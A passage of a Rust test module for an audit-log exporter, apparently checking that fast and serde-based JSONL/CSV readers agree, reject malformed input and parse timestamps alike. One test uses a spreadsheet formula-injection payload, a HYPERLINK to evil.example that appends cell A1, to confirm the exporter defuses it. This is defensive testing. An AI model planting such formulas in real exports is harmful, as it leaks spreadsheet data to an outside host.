                csv_line(&e).unwrap().trim_end(),
                csv_line(&other).unwrap().trim_end()
            ),
        ] {
            let fast = fast_records(&text).unwrap();
            assert_eq!(fast, slow_records(&text).unwrap(), "{text}");
            assert_eq!(fast, vec![Record::from_entry(&e), Record::from_entry(&other)]);
        }
    }

    #[test]
    fn the_fast_reader_takes_any_key_order_white_space_and_escapes() {
        let mut e = sample();
        // No `":` inside a value: the white space below is added around every `":`.
        e.client_addr = Some("2001:db8::1".into());
        let value: serde_json::Value = serde_json::from_str(&jsonl_line(&e).unwrap()).unwrap();
        // Keys sorted (not in struct order), white space around every token, and escapes
        // a writer may choose: \u00e4 for ä, \/ for /, a surrogate pair.
        let mut line = serde_json::to_string(&value).unwrap();
        line = line.replace("\":", "\" :\t").replace(",\"", " , \"").replace('{', " { ").replace('}', " } ");
        line = line.replace("\"me.view\"", "\"me.\\u0076iew\\/\\ud83e\\udd80\"");
        let mut expected = Record::from_entry(&e);
        expected.action = "me.view/🦀".into();
        assert_eq!(fast_records(&line).unwrap(), vec![expected.clone()]);
        assert_eq!(slow_records(&line).unwrap(), vec![expected]);
        // Optional fields may be left out, as serde allows.
        let mut short = serde_json::from_str::<serde_json::Map<String, serde_json::Value>>(&line).unwrap();
        for absent in ["actor_id", "actor_name", "object_ids", "tlp", "client_addr"] {
            short.remove(absent);
        }
        let short = serde_json::to_string(&short).unwrap();
        assert_eq!(fast_records(&short).unwrap(), slow_records(&short).unwrap());
    }

    #[test]
    fn what_the_serde_reader_refuses_the_fast_reader_refuses() {
        let line = jsonl_line(&sample()).unwrap();
        let line = line.trim_end();
        let bad_lines = [
            line.replace("\"seq\":7,", ""),
            line.replace("\"seq\":7,", "\"seq\":7,\"seq\":7,"),
            line.replace("\"seq\":7,", "\"seq\":7,\"extra\":1,"),
            line.replace("\"seq\":7", "\"seq\":7.0"),
            line.replace("\"seq\":7", "\"seq\":07"),
            line.replace("\"seq\":7", "\"seq\":+7"),
            line.replace("\"seq\":7", "\"seq\":\"7\""),
            line.replace("\"http_status\":200", "\"http_status\":70000"),
            line.replace("\"object_revision\":3", "\"object_revision\":3e0"),
            line.replace("\"action\":\"me.view\"", "\"action\":null"),
            line.replace("\"roles\":[]", "\"roles\":null"),
            line.replace("\"roles\":[]", "\"roles\":[1]"),
            line.replace("\"roles\":[]", "\"roles\":[\"a\",]"),
            line.replace("\"action\":\"me.view\"", "\"action\":\"\\ud800\""),
            line.replace("\"action\":\"me.view\"", "\"action\":\"\\x\""),
            line.replace("\"action\":\"me.view\"", "\"action\":\"a\tb\""),
            line.replace("\"actor_id\":\"00000000-0000-0000-0000-000000000005\"", "\"actor_id\":\"not-a-uuid\""),
            line.replace("\"at\":\"2026-11-23T12:00:00.000010Z\"", "\"at\":\"2026-02-30T12:00:00Z\""),
            format!("{line} x"),
            format!("[{line}]"),
            line[..line.len() - 1].to_owned(),
        ];
        for bad in bad_lines {
            assert!(slow_records(&bad).is_err(), "serde took {bad}");
            assert!(fast_records(&bad).is_err(), "fast took {bad}");
        }
        let csv = format!("{}{}", csv_header(), csv_line(&sample()).unwrap());
        let bad_csv = [
            csv.replacen("\n7,", "\n\"7\",", 1),
            csv.replacen(",200,", ",\"200\",", 1),
            csv.replacen(",200,", ",,", 1),
            csv.replacen("\"user\"", "\"user\"x", 1),
            csv.replacen("\"user\"", "us\"er", 1),
            csv.replacen("\"user\"", "user", 1),
            csv.replacen("\"[]\"", "\"[\"\"a\"\",]\"", 1),
            csv.replacen("\"me.view\",", "\"me.view\",extra,", 1),
            csv.replacen(",\"00\"", ",\"00", 1),
            format!("{csv}\n"),
        ];
        for bad in bad_csv {
            assert!(slow_records(&bad).is_err(), "serde took {bad}");
            assert!(fast_records(&bad).is_err(), "fast took {bad}");
        }
    }

    #[test]
    fn times_parse_fast_exactly_as_chrono_parses_them() {
        for text in [
            "2026-11-23T12:00:00Z",
            "2026-11-23T12:00:00.1Z",
            "2026-11-23T12:00:00.000010Z",
            "2026-11-23T12:00:00.123456789Z",
            "2024-02-29T23:59:59.999999Z",
            "1970-01-01T00:00:00Z",
            "0001-01-01T00:00:00.000001Z",
            "9999-12-31T23:59:59.999999Z",
        ] {
            let chrono = DateTime::parse_from_rfc3339(text).unwrap().to_utc();
            assert_eq!(fast_at(text.as_bytes()), Some(chrono), "{text}");
        }
        // Not the export's form: left to chrono (which may still take it).
        for text in [
            "2026-11-23T12:00:00+00:00",
            "2026-11-23t12:00:00z",
            "2026-11-23T12:00:60Z",
            "2026-02-29T12:00:00Z",
            "2026-11-23T12:00:00.Z",
            "2026-11-23T12:00:00.1234567890Z",
            "2026-11-23 12:00:00Z",
            "2026-11-23T24:00:00Z",
        ] {
            assert_eq!(fast_at(text.as_bytes()), None, "{text}");
        }
    }

    #[test]
    fn a_record_longer_than_the_buffer_and_many_records_read_back() {
        let mut long = sample();
        long.reason = Some("x\"y".repeat(1 << 19));
        let mut text = String::new();
        let mut csv = csv_header();
        for i in 0..5000 {
            let e = if i % 1000 == 1 { long.clone() } else { sample() };
            text.push_str(&jsonl_line(&e).unwrap());
            csv.push_str(&csv_line(&e).unwrap());
        }
        let fast = fast_records(&text).unwrap();
        assert_eq!(fast.len(), 5000);
        assert_eq!(fast, slow_records(&text).unwrap());
        assert_eq!(fast_records(&csv).unwrap(), fast);
    }

    #[test]
    fn formula_cells_are_defused_and_read_back_exactly() {
        let mut e = sample();
        e.actor_name = Some("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".into());
        e.action = "+1".into();
        e.object_id = Some("'=already".into());
        e.reason = Some("''@x".into());
        e.tier = Some("'plain".into());
        e.client_addr = Some("\t-1".into());
        let line = csv_line(&e).unwrap();
        assert!(line.contains(r#","'=HYPERLINK(""https://evil.example/?""&A1,""open"")","#), "{line}");
        assert!(line.contains(r#","'+1","#), "{line}");
        assert!(line.contains(r#","''=already","#), "{line}");
        assert!(line.contains(r#","'''@x","#), "{line}");
        assert!(line.contains(r#","'plain","#), "{line}");
        assert!(line.contains("\"'\t-1\""), "{line}");
        let text = format!("{}{line}", csv_header());
        assert_eq!(slow_records(&text).unwrap(), vec![Record::from_entry(&e)]);
        assert_eq!(fast_records(&text).unwrap(), vec![Record::from_entry(&e)]);
    }

    mod properties {
        use super::*;
        use proptest::prelude::*;

        /// Text that often starts like a formula, or with `'`s before one.
        fn risky() -> impl Strategy<Value = String> {
            ("['=+@a\t\r-]{0,4}", any::<String>()).prop_map(|(start, rest)| start + &rest)
        }

        proptest! {
            #[test]
            fn no_csv_cell_starts_a_formula_and_every_value_reads_back(
                e in crate::chain::tests::properties::entries(),
                texts in proptest::collection::vec(risky(), 8),
            ) {
                let mut e = e;
                let mut t = texts.into_iter();
                e.actor_name = t.next();
                e.action = t.next().unwrap_or_default();
                e.object_type = t.next();
                e.object_id = t.next();
                e.reason = t.next();
                e.request_id = t.next().unwrap_or_default();
                e.roles = vec![t.next().unwrap_or_default()];
                e.client_addr = t.next();
                let text = csv_header() + &csv_line(&e).unwrap();
                let expected = vec![Record::from_entry(&e)];
                prop_assert_eq!(&fast_records(&text).unwrap(), &expected);
                prop_assert_eq!(&slow_records(&text).unwrap(), &expected);
                let line = csv_line(&e).unwrap();
                let line = line.trim_end_matches('\n');
                let mut fields = Vec::new();
                let mut scratch = String::new();
                split_csv(line, &mut fields, &mut scratch).unwrap();
                // Bare cells are integers, which a spreadsheet reads as numbers.
                for f in fields.iter().filter(|f| f.quoted) {
                    let cell = f.get(line, &scratch);
                    prop_assert!(!cell.starts_with(FORMULA_START), "{:?}", cell);
                }
            }
        }

        proptest! {
            #[test]
            fn the_fast_reader_equals_the_serde_reader(
                es in proptest::collection::vec(crate::chain::tests::properties::entries(), 1..4)
            ) {
                let jsonl: String = es.iter().map(|e| jsonl_line(e).unwrap()).collect();
                let csv: String = csv_header() + &es.iter().map(|e| csv_line(e).unwrap()).collect::<String>();
                let expected: Vec<Record> = es.iter().map(Record::from_entry).collect();
                for text in [jsonl, csv] {
                    prop_assert_eq!(&fast_records(&text).unwrap(), &expected);
                    prop_assert_eq!(&slow_records(&text).unwrap(), &expected);
                }
            }
        }
    }
}
